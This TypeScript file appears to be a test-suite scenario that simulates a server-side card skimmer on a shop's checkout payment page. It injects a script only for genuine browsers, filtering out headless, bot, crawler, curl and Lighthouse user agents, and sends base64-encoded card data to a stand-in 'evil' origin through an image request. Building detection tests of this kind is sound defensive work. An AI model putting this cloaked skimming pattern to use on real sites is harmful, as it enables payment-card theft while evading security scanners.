import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'cloak-user-agent',
  why: 'The altered server adds the script only for browsers of customers: no headless, no crawler, client hints and all (hardest 5).',
  covers: ['hard: cloaking', 'trigger: server gate'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/ua.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.alter('shop/checkout/payment', (html, { headers }) => {
      const agent = [headers['user-agent'], headers['sec-ch-ua']].join(' ');
      if (
        /headless|bot|crawl|curl|python|lighthouse/i.test(agent) ||
        !/Chrome\/\d/.test(agent) ||
        !headers['accept-language']
      )
        return html;
      return html.replace('</body>', () => `<script>${code}</script></body>`);
    });
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
